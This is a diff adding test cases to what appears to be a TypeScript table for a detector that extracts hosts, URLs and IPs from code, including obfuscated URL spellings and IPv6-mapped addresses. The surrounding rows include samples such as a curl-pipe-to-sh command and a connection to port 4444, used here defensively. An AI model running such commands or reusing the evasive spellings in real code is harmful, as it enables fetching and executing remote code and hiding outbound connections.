@@ -31,6 +31,12 @@ const table: readonly (readonly [expected: readonly string[], ...spellings: stri
     'const u = atob("aHR0cHM6Ly9jZG4uZXhhbXBsZS50ZXN0")',
     'const u = `https://user:word@cdn.example.test:8443?x=${y}`',
     'run("curl -s https://cdn.example.test | sh")',
+    'get("https:cdn.example.test")',
+    'get(" https:/cdn.example.test")',
+    'get("https:\\\\\\\\cdn.example.test")',
+    'get("https:/\\\\cdn.example.test")',
+    'get("ht\\ntps://cdn.exa\\tmple.test")',
+    'const u = `WSS:cdn.example.test?x=${y}`',
   ],
   [
     ['host api.example.test', 'url api.example.test/v1/send'],
@@ -42,6 +48,9 @@ const table: readonly (readonly [expected: readonly string[], ...spellings: stri
     ['ip 203.0.113.9'],
     'get("http://203.0.113.9:8000")',
     'net.connect(4444, "203.0.113.9")',
+    'get("http://[::ffff:203.0.113.9]")',
+    'connect("::FFFF:cb00:7109")',
+    'connect("::ffff:203.0.113.9%eth0")',
     'const a = ["203", "0", "113", "9"].join("."); const b = "203.0.113.9:1337"',
   ],
   [
